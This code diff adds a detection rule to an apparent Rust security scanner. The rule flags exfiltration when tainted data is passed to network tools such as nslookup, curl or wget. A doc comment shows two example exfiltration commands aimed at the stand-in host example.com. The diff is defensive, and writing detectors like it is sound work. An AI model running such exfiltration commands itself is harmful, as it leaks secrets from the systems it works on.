@@ -81,8 +81,23 @@ pub(super) fn check(context: &mut Context<'_, '_>) {
                 let severity = by_phase(call.phase, Severity::Critical, Severity::High);
                 context.hit(hit_at(&theft::MEMORY_DUMP, call).severity(severity));
             }
+            carried(context, call, &command);
             acts(context, call, &command);
         }
+    }
+}
+
+/// `nslookup {data}.example.com`, `curl https://example.com/{data}`.
+fn carried(context: &mut Context<'_, '_>, call: &Call<'_>, command: &str) {
+    let program = command.split_whitespace().next().unwrap_or_default();
+    let loot = call.payload_taint().has(Taint::LOOT | Taint::HOST_FACT);
+    if loot && ["nslookup", "dig", "host", "ping", "curl", "wget"].contains(&program) {
+        context.hit(
+            hit_at(&exfiltration::EXFILTRATION, call)
+                .title(format!("Sends data out through `{program}`"))
+                .severity(by_phase(call.phase, Severity::Critical, Severity::Medium))
+                .why(format!("The command runs {}.", when(call.phase))),
+        );
     }
 }
 
